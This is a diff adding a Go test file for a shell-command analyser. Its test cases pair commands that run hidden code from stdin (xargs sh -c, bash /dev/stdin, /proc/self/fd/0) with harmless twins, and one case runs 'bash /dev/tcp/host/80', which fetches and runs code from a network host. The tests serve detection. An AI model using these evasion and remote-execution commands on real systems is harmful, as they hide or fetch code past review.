@@ -1,0 +1,93 @@
+package shell
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+)
+
+// stdinCases are programs fed their code from their input, each attack
+// beside a harmless twin. Bash runs each in an empty directory: an attack
+// creates the file pwned and must be unseen; a twin creates nothing and
+// must not be.
+var stdinCases = []struct {
+	command string
+	unseen  bool
+}{
+	{"printf 'touch pwned' | xargs -0 sh -c", true}, {"printf 'touch pwned' | xargs -0 echo", false},
+	{"printf 'touch pwned' | xargs -0 bash -c", true}, {"printf 'touch pwned' | xargs -0 printf '%s\\n'", false},
+	{"printf -- '-exec\\ntouch\\npwned\\n;\\n' | xargs find . -maxdepth 0", true}, {"printf -- '-l\\n' | xargs ls", false},
+	{"printf 'pwned\\n' | xargs touch", true}, {"printf 'pwned\\n' | xargs grep -s x", false},
+	{"printf 'core.x=1 touch pwned' | xargs env", true}, {"printf 'x' | xargs wc -c", false},
+	{"printf 'touch pwned' | xargs -I{} sh -c {}", true}, {"printf 'touch pwned' | xargs -I{} echo {}", false},
+	{"printf 'touch pwned' | xargs xargs", true}, {"printf 'touch pwned' | xargs", false},
+	{"printf 'touch pwned' | bash /dev/stdin", true}, {"printf 'touch pwned' | cat /dev/stdin", false},
+	{"printf 'touch pwned' | sh /dev/fd/0", true}, {"printf 'touch pwned' | cat /dev/fd/0", false},
+	{"printf 'touch pwned' | sh /proc/self/fd/0", true}, {"printf 'touch pwned' | head /proc/self/fd/0", false},
+	{"printf 'touch pwned' | bash -- /dev/stdin", true}, {"printf 'touch pwned' | bash -c 'cat /dev/stdin'", false},
+}
+
+func TestStdin(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Fatalf("this test runs bash: %v", err)
+	}
+	split := Subjects()
+	for _, c := range stdinCases {
+		t.Run(c.command, func(t *testing.T) {
+			subjects, err := split(commandArgs(c.command))
+			if err != nil {
+				t.Fatal(err)
+			}
+			unseen := ""
+			for _, s := range subjects {
+				unseen = firstOf(unseen, s.Unseen)
+			}
+			if (unseen != "") != c.unseen {
+				t.Errorf("unseen %q, want unseen %v", unseen, c.unseen)
+			}
+			dir := t.TempDir()
+			cmd := exec.Command(bash, "-c", c.command)
+			cmd.Dir = dir
+			out, _ := cmd.CombinedOutput()
+			_, err = os.Stat(filepath.Join(dir, "pwned"))
+			if ran := err == nil; ran != c.unseen {
+				t.Errorf("bash created pwned: %v, want %v (%s)", ran, c.unseen, out)
+			}
+		})
+	}
+}
+
+// TestStdinUnseen checks the commands whose input bash cannot be shown
+// to run here: the reason each gives, beside a twin that gives none.
+func TestStdinUnseen(t *testing.T) {
+	for _, c := range []struct{ command, why string }{
+		{"find . -exec sh -c {} \\;", "the command name {} is replaced by find or xargs when it runs"},
+		{"find . -exec sh -c 'echo \"$1\"' _ {} \\;", ""},
+		{"find . -exec {} \\;", "the command name {} is replaced by find or xargs when it runs"},
+		// GNU xargs replaces only in the arguments; others may replace
+		// in the name too.
+		{"xargs -I{} {} x", "xargs puts the words it reads in the name of the command it runs"},
+		{"xargs -I % % x", "xargs puts the words it reads in the name of the command it runs"},
+		{"xargs -I % echo % x", ""},
+		{"find . -exec sh -c +", "sh -c has no string: what runs it, xargs or find, supplies one"},
+		{"python3 /dev/stdin", "python3 reads its program from /dev/stdin, which no rule reads"},
+		{"python3 ./tool.py", ""},
+		{"node /proc/123/fd/0", "node reads its program from /proc/123/fd/0, which no rule reads"},
+		{"node ./proc/123/fd/0", ""},
+		{"bash /dev/tcp/host/80", "bash reads its program from /dev/tcp/host/80, which no rule reads"},
+	} {
+		subjects, err := Subjects()(commandArgs(c.command))
+		if err != nil {
+			t.Fatal(err)
+		}
+		unseen := ""
+		for _, s := range subjects {
+			unseen = firstOf(unseen, s.Unseen)
+		}
+		if unseen != c.why {
+			t.Errorf("%s: unseen %q, want %q", c.command, unseen, c.why)
+		}
+	}
+}
